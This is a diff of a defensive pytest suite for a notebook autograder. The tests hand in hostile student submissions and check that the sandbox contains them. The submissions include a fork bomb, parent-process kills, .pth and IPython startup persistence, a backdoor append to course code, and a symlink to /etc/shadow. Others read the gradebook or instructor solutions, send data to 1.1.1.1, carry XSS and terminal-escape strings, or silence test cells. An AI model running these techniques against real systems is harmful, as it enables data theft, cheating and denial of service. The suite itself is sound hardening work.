@@ -5,6 +5,7 @@ after everyone else), a blank copy graded after the attackers, and one submissio
 the round trip's students (tests/graded_class.py). Each class is graded once, with the sandbox on. Every attack payload is harmless
 if it got through (a comment, a print, a marker file): the tests detect that it got through instead.
 """
+
 import html
 import json
 import os
@@ -12,26 +13,36 @@ import re
 from html.parser import HTMLParser
 from pathlib import Path
 
-from tests.grading import graded_class
 import nbformat
 import psutil
 import pytest
-from tests.grading.graded_class import TIMEOUT
-from tests.grading.submissions import (ROOT, cells_by_id, grading, points, sandbox_available, solved,
-                                       source_notebook, submit)
 
+from tests.grading import graded_class
+from tests.grading.graded_class import TIMEOUT
+from tests.grading.submissions import (
+    ROOT,
+    cells_by_id,
+    grading,
+    points,
+    sandbox_available,
+    solved,
+    source_notebook,
+    submit,
+)
 
 pytestmark = pytest.mark.slow
 
 L1, L2 = "01_single_neuron", "02_dense_layer"
-MARKER = "nng-hostile-7f3a"       # found in the command line of any process a submission left behind
+MARKER = "nng-hostile-7f3a"  # found in the command line of any process a submission left behind
 FULL1 = points(L1)
 
 # (student, lesson): (what it does, how it is built, the score it deserves, what it could touch without the sandbox)
 BAD = {}
 
 
-ESCAPES = "x\x1b[2K\x1b]52;c;ZXZpbA==\x07\u202e"   # erase line, clipboard write, right-to-left override
+ESCAPES = (
+    "x\x1b[2K\x1b]52;c;ZXZpbA==\x07\u202e"  # erase line, clipboard write, right-to-left override
+)
 
 
 class Handed:
@@ -46,6 +57,7 @@ def bad(student, lesson, deserved, does, touches="its own score"):
     def register(build):
         BAD[(student, lesson)] = (does, build, deserved, touches)
         return build
+
     return register
 
 
@@ -61,7 +73,9 @@ def after(nb, grade_id, *cells):
 
 
 def first_answer(nb):
-    return next(gid for gid, cell in cells_by_id(nb).items() if cell.metadata["nbgrader"].get("solution"))
+    return next(
+        gid for gid, cell in cells_by_id(nb).items() if cell.metadata["nbgrader"].get("solution")
+    )
 
 
 # ---- careless ------------------------------------------------------------------------------------------
@@ -74,7 +88,12 @@ def _(release, source):
     return after(nb, "relu", copy)
 
 
-@bad("lost_metadata", L1, FULL1, "every cell's nbgrader metadata lost (another editor), cell ids kept")
+@bad(
+    "lost_metadata",
+    L1,
+    FULL1,
+    "every cell's nbgrader metadata lost (another editor), cell ids kept",
+)
 def _(release, source):
     nb = solved(release, source)
     for cell in nb.cells:
@@ -82,11 +101,22 @@ def _(release, source):
     return nb
 
 
-@bad("slow_legit", L1, FULL1, "a 2 s cell, then a cell stuck past the timeout in code that cannot be interrupted")
+@bad(
+    "slow_legit",
+    L1,
+    FULL1,
+    "a 2 s cell, then a cell stuck past the timeout in code that cannot be interrupted",
+)
 def _(release, source):
-    return after(solved(release, source), "check_sigmoid", code("import time\ntime.sleep(2)"), code(
-        "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGINT])\n"
-        f"time.sleep({3 * TIMEOUT})\nsignal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGINT])"))
+    return after(
+        solved(release, source),
+        "check_sigmoid",
+        code("import time\ntime.sleep(2)"),
+        code(
+            "import signal, time\nsignal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGINT])\n"
+            f"time.sleep({3 * TIMEOUT})\nsignal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGINT])"
+        ),
+    )
 
 
 @bad("duplicate_grade_id", L2, points(L2), "copy-pasted answer cell in lesson 02")
@@ -105,7 +135,12 @@ def _(release, source):
     return nb
 
 
-@bad("test_copied_above", L1, FULL1, "a copy of relu's test cell (metadata and all) pasted above the answer")
+@bad(
+    "test_copied_above",
+    L1,
+    FULL1,
+    "a copy of relu's test cell (metadata and all) pasted above the answer",
+)
 def _(release, source):
     nb = solved(release, source)
     copy = nbformat.from_dict(cells_by_id(nb)["check_relu"])
@@ -114,18 +149,36 @@ def _(release, source):
     return nb
 
 
-@bad("secret_link", L1, FULL1, "honest, but its submission_secret.txt is a link to /etc/shadow",
-     "/etc/shadow, copied by the root grader into autograded/ and feedback/")
+@bad(
+    "secret_link",
+    L1,
+    FULL1,
+    "honest, but its submission_secret.txt is a link to /etc/shadow",
+    "/etc/shadow, copied by the root grader into autograded/ and feedback/",
+)
 def _(release, source):
     return Handed(solved(release, source), beside={"submission_secret.txt": "/etc/shadow"})
 
 
-@bad("escape_names", L1, FULL1, "honest, with a cell whose id and grade id hold terminal escape sequences",
-     "the instructor's terminal and spreadsheet (erase line, clipboard write)")
+@bad(
+    "escape_names",
+    L1,
+    FULL1,
+    "honest, with a cell whose id and grade id hold terminal escape sequences",
+    "the instructor's terminal and spreadsheet (erase line, clipboard write)",
+)
 def _(release, source):
     nb = json.loads(nbformat.writes(solved(release, source)))
-    nb["cells"].append({"cell_type": "code", "id": ESCAPES, "metadata": {"nbgrader": {"grade_id": ESCAPES}},
-                        "source": "print('hi')", "outputs": [], "execution_count": None})
+    nb["cells"].append(
+        {
+            "cell_type": "code",
+            "id": ESCAPES,
+            "metadata": {"nbgrader": {"grade_id": ESCAPES}},
+            "source": "print('hi')",
+            "outputs": [],
+            "execution_count": None,
+        }
+    )
     return json.dumps(nb).encode()
 
 
@@ -150,7 +203,7 @@ def _(release, source):
     return nb
 
 
-@bad("points_lots", L1, FULL1, "points: \"lots\" on every test cell")
+@bad("points_lots", L1, FULL1, 'points: "lots" on every test cell')
 def _(release, source):
     nb = solved(release, source)
     for cell in cells_by_id(nb).values():
@@ -159,7 +212,12 @@ def _(release, source):
     return nb
 
 
-@bad("grade_false", L1, FULL1 - points(L1, ["check_relu"]), "wrong relu, and its test cell set to grade: false")
+@bad(
+    "grade_false",
+    L1,
+    FULL1 - points(L1, ["check_relu"]),
+    "wrong relu, and its test cell set to grade: false",
+)
 def _(release, source):
     nb = solved(release, source)
     cells_by_id(nb)["relu"].source = "def relu(z):\n    return np.abs(z)\n"
@@ -167,36 +225,75 @@ def _(release, source):
     return nb
 
 
-@bad("exit_call", L1, FULL1, "exit() in a cell between the exercises", "the grading kernel (it exits)")
+@bad(
+    "exit_call",
+    L1,
+    FULL1,
+    "exit() in a cell between the exercises",
+    "the grading kernel (it exits)",
+)
 def _(release, source):
     return after(solved(release, source), "check_relu", code("exit()"))
 
 
-@bad("os_exit", L1, FULL1, "os._exit(0) in a cell between the exercises", "the grading kernel (it dies)")
+@bad(
+    "os_exit",
+    L1,
+    FULL1,
+    "os._exit(0) in a cell between the exercises",
+    "the grading kernel (it dies)",
+)
 def _(release, source):
     return after(solved(release, source), "check_sigmoid", code("import os\nos._exit(0)"))
 
 
-@bad("os_exit", L2, points(L2), "os._exit(0) after the first exercise of lesson 02", "the grading kernel")
+@bad(
+    "os_exit",
+    L2,
+    points(L2),
+    "os._exit(0) after the first exercise of lesson 02",
+    "the grading kernel",
+)
 def _(release, source):
     nb = solved(release, source)
-    first_test = next(gid for gid, c in cells_by_id(nb).items() if c.metadata["nbgrader"].get("grade"))
+    first_test = next(
+        gid for gid, c in cells_by_id(nb).items() if c.metadata["nbgrader"].get("grade")
+    )
     return after(nb, first_test, code("import os\nos._exit(0)"))
 
 
-@bad("kill_parent", L1, FULL1, "kills its parent and its process group",
-     "nbgrader's process: the whole run stopped for everyone")
+@bad(
+    "kill_parent",
+    L1,
+    FULL1,
+    "kills its parent and its process group",
+    "nbgrader's process: the whole run stopped for everyone",
+)
 def _(release, source):
-    return after(solved(release, source), "check_relu", code(
-        "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError as e:\n    print(e)\n"
-        "os.killpg(0, signal.SIGKILL)"))
+    return after(
+        solved(release, source),
+        "check_relu",
+        code(
+            "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError as e:\n    print(e)\n"
+            "os.killpg(0, signal.SIGKILL)"
+        ),
+    )
 
 
-@bad("sigint_loop", L1, FULL1 - points(L1, ["check_relu"]), "relu's cell ignores SIGINT and loops for ever",
-     "the run: 'Timeout waiting for IOPub output' stopped it for everyone")
+@bad(
+    "sigint_loop",
+    L1,
+    FULL1 - points(L1, ["check_relu"]),
+    "relu's cell ignores SIGINT and loops for ever",
+    "the run: 'Timeout waiting for IOPub output' stopped it for everyone",
+)
 def _(release, source):
     nb = solved(release, source)
-    cells_by_id(nb)["relu"].source += "\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
+    cells_by_id(nb)[
+        "relu"
+    ].source += (
+        "\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
+    )
     return nb
 
 
@@ -212,129 +309,241 @@ def payload(nb, source, where="first"):
 SOLVE_FROM = (  # copies the instructor's answers into this kernel if it finds the instructor notebook
     "def solve_from(path):\n    import json\n    nb = json.load(open(path))\n"
     "    for cell in nb['cells']:\n        src = ''.join(cell['source'])\n"
-    "        if 'BEGIN SOLUTION' in src:\n            exec(src, globals())\n")
+    "        if 'BEGIN SOLUTION' in src:\n            exec(src, globals())\n"
+)
 
 
-@bad("link_to_instructor", L1, 0, "the notebook handed in is a link to the instructor's notebook",
-     "the solutions (11/11 and the solutions on its feedback page)")
+@bad(
+    "link_to_instructor",
+    L1,
+    0,
+    "the notebook handed in is a link to the instructor's notebook",
+    "the solutions (11/11 and the solutions on its feedback page)",
+)
 def _(release, source):
     return Handed(link=ROOT / "notebooks" / f"{L1}.ipynb")
 
 
-@bad("link_to_classmate", L1, 0, "the notebook handed in is a link to a classmate's submission",
-     "a classmate's answers and score")
+@bad(
+    "link_to_classmate",
+    L1,
+    0,
+    "the notebook handed in is a link to a classmate's submission",
+    "a classmate's answers and score",
+)
 def _(release, source):
     return Handed(link=Path("..") / ".." / "000_honest" / L1 / f"{L1}.ipynb")
 
 
-@bad("huge_numbers", L1, FULL1 - points(L1, ["check_relu"]),
-     "relu returns 1e300 everywhere; a last cell rewrites every recorded answer as 10**400",
-     "the judge (OverflowError stopped grading for the whole class)")
+@bad(
+    "huge_numbers",
+    L1,
+    FULL1 - points(L1, ["check_relu"]),
+    "relu returns 1e300 everywhere; a last cell rewrites every recorded answer as 10**400",
+    "the judge (OverflowError stopped grading for the whole class)",
+)
 def _(release, source):
     # The judge run's reply is what the judge reads now (the kernel's results file is not read, so the
     # last cell, kept from the results-file design, costs nothing): the huge number comes from relu.
     nb = solved(release, source)
     cells_by_id(nb)["relu"].source += "\n\ndef relu(z):\n    return np.full_like(z, 1e300)\n"
-    return payload(nb, (
-        "import json, os\nresults = json.load(open('nnhelpers-answers.json'))\n"
-        "results['answers'] = {k: 10**400 for k in results['answers']}\n"
-        "json.dump(results, open('nnhelpers-answers.json', 'w'))\n"), where="end")
+    return payload(
+        nb,
+        (
+            "import json, os\nresults = json.load(open('nnhelpers-answers.json'))\n"
+            "results['answers'] = {k: 10**400 for k in results['answers']}\n"
+            "json.dump(results, open('nnhelpers-answers.json', 'w'))\n"
+        ),
+        where="end",
+    )
 
 
-@bad("reads_instructor", L1, 0, "reads the instructor notebook (found via nh.__file__ and the venv's path) "
-     "and runs its solutions in place of answers", "the solutions and hidden tests of every lesson")
+@bad(
+    "reads_instructor",
+    L1,
+    0,
+    "reads the instructor notebook (found via nh.__file__ and the venv's path) "
+    "and runs its solutions in place of answers",
+    "the solutions and hidden tests of every lesson",
+)
 def _(release, source):
-    return payload(nbformat.from_dict(release), SOLVE_FROM + (
-        "import glob, sys, nnhelpers as nh\nfrom pathlib import Path\n"
-        "found = [str(r / 'notebooks' / '01_single_neuron.ipynb') for r in (Path(nh.__file__).parents[1], Path(sys.prefix).parent)]\n"
-        "for folder in Path.cwd().parents:\n    found += glob.glob(str(folder / 'source' / '*' / '01_single_neuron.ipynb'))\n"
-        "for p in found:\n    try:\n        solve_from(p)\n        print('read', p)\n    except OSError as e:\n        print(e)\n"))
+    return payload(
+        nbformat.from_dict(release),
+        SOLVE_FROM
+        + (
+            "import glob, sys, nnhelpers as nh\nfrom pathlib import Path\n"
+            "found = [str(r / 'notebooks' / '01_single_neuron.ipynb') for r in (Path(nh.__file__).parents[1], Path(sys.prefix).parent)]\n"
+            "for folder in Path.cwd().parents:\n    found += glob.glob(str(folder / 'source' / '*' / '01_single_neuron.ipynb'))\n"
+            "for p in found:\n    try:\n        solve_from(p)\n        print('read', p)\n    except OSError as e:\n        print(e)\n"
+        ),
+    )
 
 
-@bad("reads_gradebook", L1, 0, "looks for gradebook.db above its working directory and prints what it holds",
-     "hidden tests and every student's answers and scores")
+@bad(
+    "reads_gradebook",
+    L1,
+    0,
+    "looks for gradebook.db above its working directory and prints what it holds",
+    "hidden tests and every student's answers and scores",
+)
 def _(release, source):
-    return payload(nbformat.from_dict(release), (
-        "import sqlite3\nfrom pathlib import Path\n"
-        "for folder in [Path.cwd(), *Path.cwd().parents]:\n    db = folder / 'gradebook.db'\n    if db.exists():\n"
-        "        rows = sqlite3.connect(db).execute('select source from source_cell').fetchall()\n"
-        "        print('\\n'.join(r[0] for r in rows))\n"))
+    return payload(
+        nbformat.from_dict(release),
+        (
+            "import sqlite3\nfrom pathlib import Path\n"
+            "for folder in [Path.cwd(), *Path.cwd().parents]:\n    db = folder / 'gradebook.db'\n    if db.exists():\n"
+            "        rows = sqlite3.connect(db).execute('select source from source_cell').fetchall()\n"
+            "        print('\\n'.join(r[0] for r in rows))\n"
+        ),
+    )
 
 
-@bad("writes_nnhelpers", L1, 0, "appends a line to nnhelpers (the imported copy and the editable source tree)",
-     "the course code every later student imports (a backdoor)")
+@bad(
+    "writes_nnhelpers",
+    L1,
+    0,
+    "appends a line to nnhelpers (the imported copy and the editable source tree)",
+    "the course code every later student imports (a backdoor)",
+)
 def _(release, source):
-    return payload(nbformat.from_dict(release), (
-        "import sys, nnhelpers as nh\nfrom pathlib import Path\n"
-        "for p in [Path(nh.__file__), Path(sys.prefix).parent / 'nnhelpers' / '__init__.py']:\n"
-        f"    try:\n        open(p, 'a').write('\\n# {MARKER}\\n')\n        print('wrote', p)\n"
-        "    except OSError as e:\n        print(e)\n"))
+    return payload(
+        nbformat.from_dict(release),
+        (
+            "import sys, nnhelpers as nh\nfrom pathlib import Path\n"
+            "for p in [Path(nh.__file__), Path(sys.prefix).parent / 'nnhelpers' / '__init__.py']:\n"
+            f"    try:\n        open(p, 'a').write('\\n# {MARKER}\\n')\n        print('wrote', p)\n"
+            "    except OSError as e:\n        print(e)\n"
+        ),
+    )
 
 
-@bad("ipython_startup", L1, 0, "writes IPython startup files (its profile, ~/.ipython, /root/.ipython)",
-     "every later kernel of the instructor's account")
+@bad(
+    "ipython_startup",
+    L1,
+    0,
+    "writes IPython startup files (its profile, ~/.ipython, /root/.ipython)",
+    "every later kernel of the instructor's account",
+)
 def _(release, source):
-    return payload(nbformat.from_dict(release), (
-        "import os\nfrom pathlib import Path\n"
-        "dirs = [Path(get_ipython().profile_dir.startup_dir), Path.home() / '.ipython/profile_default/startup',\n"
-        "        Path('/root/.ipython/profile_default/startup')]\nfor d in dirs:\n    try:\n"
-        "        d.mkdir(parents=True, exist_ok=True)\n"
-        f"        (d / '99-{MARKER}.py').write_text('print(\"{MARKER}\")')\n    except OSError as e:\n        print(e)\n"))
+    return payload(
+        nbformat.from_dict(release),
+        (
+            "import os\nfrom pathlib import Path\n"
+            "dirs = [Path(get_ipython().profile_dir.startup_dir), Path.home() / '.ipython/profile_default/startup',\n"
+            "        Path('/root/.ipython/profile_default/startup')]\nfor d in dirs:\n    try:\n"
+            "        d.mkdir(parents=True, exist_ok=True)\n"
+            f"        (d / '99-{MARKER}.py').write_text('print(\"{MARKER}\")')\n    except OSError as e:\n        print(e)\n"
+        ),
+    )
 
 
-@bad("pth_hook", L1, 0, "writes a .pth start-up hook into the venv's and the user's site-packages",
-     "every later Python process of the venv, nbgrader included")
+@bad(
+    "pth_hook",
+    L1,
+    0,
+    "writes a .pth start-up hook into the venv's and the user's site-packages",
+    "every later Python process of the venv, nbgrader included",
+)
 def _(release, source):
-    return payload(nbformat.from_dict(release), (
-        "import site\nfrom pathlib import Path\n"
-        "for d in [*site.getsitepackages(), site.getusersitepackages()]:\n    try:\n"
-        "        Path(d).mkdir(parents=True, exist_ok=True)\n"
-        f"        (Path(d) / '{MARKER}.pth').write_text('import sys\\n')\n    except OSError as e:\n        print(e)\n"))
+    return payload(
+        nbformat.from_dict(release),
+        (
+            "import site\nfrom pathlib import Path\n"
+            "for d in [*site.getsitepackages(), site.getusersitepackages()]:\n    try:\n"
+            "        Path(d).mkdir(parents=True, exist_ok=True)\n"
+            f"        (Path(d) / '{MARKER}.pth').write_text('import sys\\n')\n    except OSError as e:\n        print(e)\n"
+        ),
+    )
 
 
-@bad("overwrites_other", L1, 0, "overwrites every other submission, autograded notebook and feedback it finds",
-     "other students' work and grades")
+@bad(
+    "overwrites_other",
+    L1,
+    0,
+    "overwrites every other submission, autograded notebook and feedback it finds",
+    "other students' work and grades",
+)
 def _(release, source):
-    return payload(nbformat.from_dict(release), (
-        "import glob\nfrom pathlib import Path\n"
-        "for folder in Path.cwd().parents:\n"
-        "    for p in glob.glob(str(folder / '*' / '000_honest' / '*' / '*')):\n"
-        "        try:\n            Path(p).write_text('{}')\n        except OSError as e:\n            print(e)\n"))
+    return payload(
+        nbformat.from_dict(release),
+        (
+            "import glob\nfrom pathlib import Path\n"
+            "for folder in Path.cwd().parents:\n"
+            "    for p in glob.glob(str(folder / '*' / '000_honest' / '*' / '*')):\n"
+            "        try:\n            Path(p).write_text('{}')\n        except OSError as e:\n            print(e)\n"
+        ),
+    )
 
 
-@bad("lingering", L1, 0, "starts a detached process that outlives the kernel and keeps rewriting grades.csv",
-     "grades.csv after export")
+@bad(
+    "lingering",
+    L1,
+    0,
+    "starts a detached process that outlives the kernel and keeps rewriting grades.csv",
+    "grades.csv after export",
+)
 def _(release, source):
-    return payload(nbformat.from_dict(release), (
-        "import subprocess, sys\n"
-        "subprocess.Popen([sys.executable, '-c', '''\nimport time\nfrom pathlib import Path\n"
-        "for _ in range(240):\n    for folder in Path.cwd().parents:\n"
-        "        try:\n            (folder / 'grades.csv').write_text('hacked')\n        except OSError:\n            pass\n"
-        f"    time.sleep(0.5)\n''', '{MARKER}'], start_new_session=True,\n"
-        "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"))
+    return payload(
+        nbformat.from_dict(release),
+        (
+            "import subprocess, sys\n"
+            "subprocess.Popen([sys.executable, '-c', '''\nimport time\nfrom pathlib import Path\n"
+            "for _ in range(240):\n    for folder in Path.cwd().parents:\n"
+            "        try:\n            (folder / 'grades.csv').write_text('hacked')\n        except OSError:\n            pass\n"
+            f"    time.sleep(0.5)\n''', '{MARKER}'], start_new_session=True,\n"
+            "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
+        ),
+    )
 
 
-@bad("network", L1, 0, "connects to a server on the grading machine's localhost and to the internet",
-     "the network: uploads what it read")
+@bad(
+    "network",
+    L1,
+    0,
+    "connects to a server on the grading machine's localhost and to the internet",
+    "the network: uploads what it read",
+)
 def _(release, source):
-    return payload(nbformat.from_dict(release), (
-        "import socket\n"
-        "for address in [('127.0.0.1', PORT), ('1.1.1.1', 80)]:\n    try:\n"
-        "        socket.create_connection(address, timeout=2).sendall(b'leak')\n        print('connected', address)\n"
-        "    except OSError as e:\n        print(e)\n"))
+    return payload(
+        nbformat.from_dict(release),
+        (
+            "import socket\n"
+            "for address in [('127.0.0.1', PORT), ('1.1.1.1', 80)]:\n    try:\n"
+            "        socket.create_connection(address, timeout=2).sendall(b'leak')\n        print('connected', address)\n"
+            "    except OSError as e:\n        print(e)\n"
+        ),
+    )
 
 
-@bad("big_alloc", L1, FULL1, "allocates 4 GiB in a cell between the exercises", "the machine's memory")
+@bad(
+    "big_alloc",
+    L1,
+    FULL1,
+    "allocates 4 GiB in a cell between the exercises",
+    "the machine's memory",
+)
 def _(release, source):
-    return after(solved(release, source), "check_sigmoid", code("big = np.ones(2**29)\nprint(big.nbytes)"))
+    return after(
+        solved(release, source), "check_sigmoid", code("big = np.ones(2**29)\nprint(big.nbytes)")
+    )
 
 
-@bad("fork_bomb", L1, 0, "forks up to 1024 processes that each wait 30 s", "every process slot of the machine")
+@bad(
+    "fork_bomb",
+    L1,
+    0,
+    "forks up to 1024 processes that each wait 30 s",
+    "every process slot of the machine",
+)
 def _(release, source):
-    return payload(nbformat.from_dict(release), (
-        "import os, time\nparent = os.getpid()\n"
-        "for _ in range(10):\n    try:\n        os.fork()\n    except OSError:\n        break\n"
-        "if os.getpid() != parent:\n    time.sleep(30)\n    os._exit(0)\n"))
+    return payload(
+        nbformat.from_dict(release),
+        (
+            "import os, time\nparent = os.getpid()\n"
+            "for _ in range(10):\n    try:\n        os.fork()\n    except OSError:\n        break\n"
+            "if os.getpid() != parent:\n    time.sleep(30)\n    os._exit(0)\n"
+        ),
+    )
 
 
 # 8 MB, over the 1 MiB limit for one output, print in milliseconds: the cell finishes long before its
@@ -345,35 +554,60 @@ def _(release, source):
     return after(solved(release, source), "check_sigmoid", code("print('x' * 8_000_000)"))
 
 
-@bad("script_output", L1, FULL1, "<script>, onerror, javascript: links in outputs, Markdown and raw cells",
-     "the instructor's or a student's browser when opening the feedback page")
+@bad(
+    "script_output",
+    L1,
+    FULL1,
+    "<script>, onerror, javascript: links in outputs, Markdown and raw cells",
+    "the instructor's or a student's browser when opening the feedback page",
+)
 def _(release, source):
-    evil = (f"<script>alert('{MARKER}')</script><img src=x onerror=\"alert('{MARKER}')\">"
-            f"<a href=\"javascript:alert('{MARKER}')\">x</a>")
-    nb = after(solved(release, source), "check_sigmoid", code(
-        f"from IPython.display import HTML, Javascript, Markdown, display\ndisplay(HTML({evil!r}))\n"
-        f"display(Javascript(\"alert('{MARKER}')\"))\ndisplay(Markdown(\"[x](javascript:alert('{MARKER}'))\"))"))
+    evil = (
+        f"<script>alert('{MARKER}')</script><img src=x onerror=\"alert('{MARKER}')\">"
+        f"<a href=\"javascript:alert('{MARKER}')\">x</a>"
+    )
+    nb = after(
+        solved(release, source),
+        "check_sigmoid",
+        code(
+            f"from IPython.display import HTML, Javascript, Markdown, display\ndisplay(HTML({evil!r}))\n"
+            f"display(Javascript(\"alert('{MARKER}')\"))\ndisplay(Markdown(\"[x](javascript:alert('{MARKER}'))\"))"
+        ),
+    )
     nb.cells.append(nbformat.v4.new_markdown_cell(evil + f"\n\n[y](javascript:alert('{MARKER}'))"))
     nb.cells.append(nbformat.v4.new_raw_cell(evil))
     return nb
 
 
-@bad("prints_history", L1, 0, "prints the kernel's input history (In) at the end, hidden tests included",
-     "the hidden tests, through its feedback page")
+@bad(
+    "prints_history",
+    L1,
+    0,
+    "prints the kernel's input history (In) at the end, hidden tests included",
+    "the hidden tests, through its feedback page",
+)
 def _(release, source):
     return payload(nbformat.from_dict(release), "print('\\n'.join(In))", where="end")
 
 
 # A cheat that fakes scores from inside the kernel: points are decided outside it (tools/grading/scores.py),
 # so silenced test cells record nothing and earn nothing. (More such cheats: tests/grading/test_grading.py's CHEATS.)
-@bad("input_transformer", L1, 0, "an IPython input transformer turns every later cell, tests included, into `pass`",
-     "every test cell's verdict")
+@bad(
+    "input_transformer",
+    L1,
+    0,
+    "an IPython input transformer turns every later cell, tests included, into `pass`",
+    "every test cell's verdict",
+)
 def _(release, source):
-    return payload(nbformat.from_dict(release), "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")
+    return payload(
+        nbformat.from_dict(release),
+        "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
+    )
 
 
 HONEST = [("000_honest", L1), ("zzz_honest", L1), ("000_honest", L2), ("zzz_honest", L2)]
-BLANK_AFTER = ("zzy_blank", L1)     # graded after the attackers: must still score 0
+BLANK_AFTER = ("zzy_blank", L1)  # graded after the attackers: must still score 0
 
 
 def lingering(marker=MARKER):
@@ -425,10 +659,18 @@ def graded(tmp_path_factory):
     roots = {lesson: Path(summary["root"]) for lesson, summary in summaries.items()}
     rows, report = {}, {}
     for root in roots.values():
-        rows.update({(row["student_id"], row["assignment"]): row
-                     for row in graded_class.csv_rows(root / "grades.csv")})
-        report.update({(row["student_id"], row["assignment"]): row
-                       for row in graded_class.csv_rows(root / "grading-report.csv")})
+        rows.update(
+            {
+                (row["student_id"], row["assignment"]): row
+                for row in graded_class.csv_rows(root / "grades.csv")
+            }
+        )
+        report.update(
+            {
+                (row["student_id"], row["assignment"]): row
+                for row in graded_class.csv_rows(root / "grading-report.csv")
+            }
+        )
     return {"roots": roots, "rows": rows, "report": report, "summaries": summaries}
 
 
@@ -460,7 +702,7 @@ EVERYONE = set(BAD) | set(HONEST) | {BLANK_AFTER}
 
 
 def test_everyone_has_a_row_in_grades_csv_and_a_feedback_page(graded):
-    assert EVERYONE <= set(graded["rows"])          # (nbgrader lists every student for every lesson)
+    assert EVERYONE <= set(graded["rows"])  # (nbgrader lists every student for every lesson)
     for student, lesson in EVERYONE:
         assert page(graded, student, lesson).is_file(), (student, lesson)
 
@@ -468,7 +710,9 @@ def test_everyone_has_a_row_in_grades_csv_and_a_feedback_page(graded):
 def hidden_lines(lesson):
     lines = []
     for cell in source_notebook(lesson).cells:
-        for block in re.findall(r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", cell.source, flags=re.S):
+        for block in re.findall(
+            r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", cell.source, flags=re.DOTALL
+        ):
             lines += [line.strip() for line in block.splitlines() if len(line.strip()) >= 8]
     return lines
 
@@ -500,7 +744,9 @@ class ActiveContent(HTMLParser):
         for name, value in attrs:
             if name.startswith("on"):
                 self.handlers.append((tag, name, value))
-            if name in ("href", "src") and (value or "").strip().lower().startswith(("javascript:", "vbscript:")):
+            if name in ("href", "src") and (value or "").strip().lower().startswith(
+                ("javascript:", "vbscript:")
+            ):
                 self.urls.append((tag, value))
 
     def handle_data(self, data):
@@ -510,29 +756,38 @@ class ActiveContent(HTMLParser):
 
 def test_feedback_has_no_script_handler_or_javascript_link_from_the_student(graded):
     text = page(graded, "script_output", L1).read_text()
-    assert MARKER in text                                   # the student's text is there, made harmless
+    assert MARKER in text  # the student's text is there, made harmless
     found = ActiveContent()
     found.feed(text)
-    assert not found.scripts                              # none at all: no MathJax from a CDN either
+    assert not found.scripts  # none at all: no MathJax from a CDN either
     assert not found.handlers and not found.urls
 
 
 def test_outputs_are_capped_in_bytes(graded):
     root = graded["roots"][L1]
-    for path in (root / "autograded" / "huge_output" / L1 / f"{L1}.ipynb", page(graded, "huge_output", L1)):
+    for path in (
+        root / "autograded" / "huge_output" / L1 / f"{L1}.ipynb",
+        page(graded, "huge_output", L1),
+    ):
         assert path.stat().st_size < 5 * 2**20, path
     assert "output cut by the grader" in page_text(page(graded, "huge_output", L1))
 
 
 def test_report_names_what_could_not_be_graded_fully(graded):
     report = graded["report"]
-    assert report[("not_json", L1)]["outcome"].startswith("not graded") and "not valid JSON" in report[("not_json", L1)]["details"]
+    assert (
+        report[("not_json", L1)]["outcome"].startswith("not graded")
+        and "not valid JSON" in report[("not_json", L1)]["details"]
+    )
     assert "format version 99" in report[("nbformat_99", L1)]["details"]
     assert report[("sigint_loop", L1)]["outcome"] == "partly graded"
     assert "restarted" in report[("sigint_loop", L1)]["details"]
     assert "restarted" in report[("os_exit", L1)]["details"]
     assert report[("schema_99", L1)]["outcome"] == "graded after repair"
-    assert "dropped nbgrader metadata (a copy of cell 'relu')" in report[("duplicate_grade_id", L1)]["details"]
+    assert (
+        "dropped nbgrader metadata (a copy of cell 'relu')"
+        in report[("duplicate_grade_id", L1)]["details"]
+    )
     assert not {key for key in HONEST if key in report}
     for student in ("link_to_instructor", "link_to_classmate"):
         assert report[(student, L1)]["outcome"].startswith("not graded")
@@ -548,7 +803,7 @@ def test_reports_are_plain_text(graded):
     assert "escape_names" in (root / "grades.csv").read_text()
     for name in ("grades.csv", "grading-report.csv", "trusted-scores.csv"):
         assert not CONTROL.search((root / name).read_text()), name
-    assert "52;c;ZXZpbA==" in graded["report"][("escape_names", L1)]["details"]      # named, made plain
+    assert "52;c;ZXZpbA==" in graded["report"][("escape_names", L1)]["details"]  # named, made plain
 
 
 def test_no_file_outside_a_submission_reaches_autograded_or_feedback(graded):
@@ -558,12 +813,17 @@ def test_no_file_outside_a_submission_reaches_autograded_or_feedback(graded):
             assert not path.is_symlink(), path
             if path.is_file() and shadow:
                 assert shadow not in path.read_bytes(), path
-    assert not (graded["roots"][L1] / "autograded" / "secret_link" / L1 / "submission_secret.txt").exists()
+    assert not (
+        graded["roots"][L1] / "autograded" / "secret_link" / L1 / "submission_secret.txt"
+    ).exists()
 
 
 def test_a_number_the_judge_cannot_use_costs_its_cell_and_is_named(graded):
-    rows = [row for row in graded_class.csv_rows(graded["roots"][L1] / "trusted-scores.csv")
-            if row["student"] == "huge_numbers"]
+    rows = [
+        row
+        for row in graded_class.csv_rows(graded["roots"][L1] / "trusted-scores.csv")
+        if row["student"] == "huge_numbers"
+    ]
     relu = [row for row in rows if row["grade_id"] == "check_relu"]
     assert relu and float(relu[0]["points"]) == 0 and "larger than 1e+12" in relu[0]["reason"]
     assert all(float(row["points"]) == float(row["max_points"]) for row in rows if row not in relu)
@@ -577,7 +837,15 @@ def test_nothing_reached_the_course_other_students_or_the_network(graded):
         assert (root / "grades.csv").read_bytes() == (root / "grades-at-export.csv").read_bytes()
         assert not summary["received"], "a submission connected to the grading machine's localhost"
     assert not lingering(), "a process a submission started outlived grading"
-    planted = [p for p in [Path("/root/.ipython/profile_default/startup") / f"99-{MARKER}.py", Path.home() / ".ipython"
-                           / "profile_default" / "startup" / f"99-{MARKER}.py"] if p.exists()]
-    planted += [p for p in Path(grading.__file__).parents[2].glob(f".venv/lib/*/site-packages/{MARKER}.pth")]
